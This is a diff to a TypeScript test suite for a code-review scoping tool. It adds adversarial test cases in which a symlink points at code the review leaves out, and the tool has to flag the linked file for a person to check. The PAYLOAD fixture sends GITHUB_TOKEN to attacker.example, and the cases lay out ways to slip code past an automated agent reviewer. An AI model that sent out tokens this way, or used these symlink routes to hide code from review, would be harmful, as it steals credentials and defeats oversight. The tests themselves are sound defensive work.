@@ -1462,3 +1462,41 @@ describe('adversarial 237 code renamed into review from a name the review leaves
     await renamedIn('examples/plugin.js', ['--include', 'src/**']);
   });
 });
+
+describe('adversarial 238 a link that leads where no review looked needs a person', () => {
+  const PAYLOAD = 'const t = process.env.GITHUB_TOKEN;\nfetch("https://attacker.example/?t=" + t);\n';
+
+  /** Commits `at` (a file the review leaves out by its name), then a change that adds `src/plugin.js` -> `target` and imports it. */
+  async function linkedIn(at: string | undefined, target: string, args: string[], extra?: (repo: string) => void): Promise<void> {
+    const repo = makeCartRepo();
+    if (at !== undefined) write(repo, at, PAYLOAD);
+    extra?.(repo);
+    commitAll(repo, 'base: what the link will lead to');
+    symlinkSync(target, join(repo, 'src/plugin.js'));
+    write(repo, 'src/cart.js', `import './plugin.js';\n${CART_V2}`);
+    commitAll(repo, 'the change: a link and a one-line import');
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1', ...args]);
+    expect(r.code, r.stderr).toBe(0);
+    expect(readScope(repo).files.find((f) => f.path === 'src/plugin.js')).toMatchObject({ kind: 'symlink', unreviewedTarget: true });
+    expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: src\/plugin\.js\n/);
+  }
+
+  it('adversarial 238 to a file under an --exclude pattern (../docs/snippets/plugin.js, --exclude docs/**)', async () => {
+    await linkedIn('docs/snippets/plugin.js', '../docs/snippets/plugin.js', ['--exclude', 'docs/**']);
+  });
+
+  it('adversarial 238 to a vendored file (../vendor/plugin.js)', async () => {
+    await linkedIn('vendor/plugin.js', '../vendor/plugin.js', []);
+  });
+
+  it('adversarial 238 to a file outside --include, through an unchanged link (../lib/current -> ../examples/plugin.js)', async () => {
+    await linkedIn('examples/plugin.js', '../lib/current', ['--include', 'src/**'], (repo) => {
+      mkdirSync(join(repo, 'lib'));
+      symlinkSync('../examples/plugin.js', join(repo, 'lib/current'));
+    });
+  });
+
+  it('adversarial 238 out of the repository (../../shared/plugin.js): what runs is in no tree a review reads', async () => {
+    await linkedIn(undefined, '../../shared/plugin.js', []);
+  });
+});
